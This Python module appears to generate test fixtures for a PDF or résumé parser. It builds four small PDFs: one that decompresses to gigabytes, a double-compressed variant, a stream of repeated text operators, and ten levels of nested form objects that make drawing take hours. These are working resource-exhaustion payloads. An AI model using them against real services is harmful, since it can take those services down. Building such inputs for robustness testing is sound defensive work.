"""PDFs that ask for far more than their size, made by hand."""

import zlib

HEAD = [
    b"<</Type/Catalog/Pages 2 0 R>>",
    b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R"
    b"/Resources<</Font<</F1 5 0 R>>/XObject<</A 6 0 R>>>>>>",
]
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
SENTENCE = b"BT /F1 12 Tf 10 700 Td (Managed the stock list of a food bank) Tj ET"
MEGABYTE = 1 << 20


def pdf(objects: list[bytes]) -> bytes:
    """Return a PDF of objects, the first of which is its catalogue."""
    data, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    tail = b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, len(data))
    return data + b"xref\n0 %d\n0000000000 65535 f \n%b" % (len(objects) + 1, table) + tail


def stream(content: bytes, more: bytes = b"") -> bytes:
    """Return a stream object."""
    return b"<<%b/Length %d>>stream\n%b\nendstream" % (more, len(content), content)


def flate(content: bytes, times: int) -> bytes:
    """Return content packed many times over, without unpacking it here; its check sum at the end is wrong."""
    packer = zlib.compressobj(9)
    first, again = (packer.compress(content) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
    return first + again * (times - 1) + packer.flush()


def fan_out(levels: int, times: int) -> bytes:
    """Return a PDF that draws a form that draws a form, many times at each level."""
    forms = []
    for level in range(levels):
        drawn = b"/B Do " * times if level < levels - 1 else SENTENCE
        resources = b"/Resources<</Font<</F1 5 0 R>>/XObject<</B %d 0 R>>>>" % (7 + level)
        forms.append(stream(drawn, b"/Type/XObject/Subtype/Form/BBox[0 0 600 800]" + resources))
    return pdf([*HEAD, stream(SENTENCE + b" /A Do"), FONT, *forms])


def bombs() -> dict[str, bytes]:
    """Return small PDFs that unpack to gigabytes, or that take hours to draw."""
    spaces = flate(b" " * MEGABYTE, 900)
    twice = zlib.compress(flate(b" " * MEGABYTE, 4000), 9)
    words = flate(b"BT /F1 12 Tf 1 0 0 1 10 10 Tm (word word) Tj ET\n" * 1000, 400)
    return {
        "unpacks": pdf([*HEAD, stream(spaces, b"/Filter/FlateDecode"), FONT, stream(b"")]),
        "unpacks twice": pdf([*HEAD, stream(twice, b"/Filter[/FlateDecode/FlateDecode]"), FONT, stream(b"")]),
        "many words": pdf([*HEAD, stream(words, b"/Filter/FlateDecode"), FONT, stream(b"")]),
        "fans out": fan_out(10, 30),
    }
